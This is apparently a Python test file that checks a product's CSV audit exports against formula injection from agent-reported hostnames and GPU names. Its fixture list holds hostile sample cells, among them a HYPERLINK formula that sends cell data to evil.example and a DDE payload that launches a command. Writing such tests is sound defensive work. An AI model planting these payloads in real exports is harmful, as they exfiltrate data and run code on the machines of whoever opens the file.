"""CSV formula injection: no cell of any CSV chipwatch writes starts with = + - @ tab or CR as data
the host owner chose.  Agent-controlled strings (hostnames, GPU names) reach the audit exports."""
import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest

from compliance.exports.tabular import formula_neutralise
from tests.api.fleet import api_client

ROOT = Path(__file__).resolve().parents[2]
PRODUCT = ("compliance", "inventory", "config", "agents/chipwatch_agent")
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\tTAB", "\rCR"]


@pytest.mark.parametrize("value", HOSTILE)
def test_the_shared_helper_neutralises_every_trigger(value):
    assert formula_neutralise(value) == "'" + value


def test_harmless_values_are_untouched():
    assert formula_neutralise("gpu-node-01") == "gpu-node-01" and formula_neutralise("") == ""


def test_every_csv_writer_in_the_product_uses_the_shared_helper():
    writers = [path for base in PRODUCT for path in (ROOT / base).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))]
    assert writers, "no CSV writer found: the scan is broken"
    # Guarded: calls formula_neutralise, or writes through the shared `cell` (which neutralises every string).
    unguarded = [str(path.relative_to(ROOT)) for path in writers
                 if not re.search(r"formula_neutralise|from compliance\.exports\.tabular import [^\n]*\bcell\b",
                                  path.read_text())]
    assert unguarded == []


@pytest.mark.parametrize("fmt", ["leaves", "csv"])
def test_audit_exports_neutralise_agent_controlled_strings(users, family_a, fmt):
    from inventory.models import Host, Observation

    host = family_a.hosts[0]
    Host.objects.filter(pk=host.pk).update(hostname=HOSTILE[0])
    observation = Observation.objects.get(host=host)
    payload = observation.payload
    payload["identity"]["gpus"][0]["name"] = HOSTILE[1]
    payload["host"]["hostname"] = HOSTILE[0]
    Observation.objects.filter(pk=observation.pk).update(payload=payload)  # as if the agent had reported it
    response = api_client(users["auditor_a"]).get(f"/api/v1/clusters/{family_a.clusters[0].pk}/audit",
                                                  {"as_of": date.today().isoformat(), "format": fmt})
    assert response.status_code == 200, response.content
    text = response.content.decode("utf-8-sig")
    cells = [value for row in csv.reader(io.StringIO(text)) for value in row]
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells
    assert not [value for value in cells if value[:1] in ("=", "+", "@", "\t", "\r")]
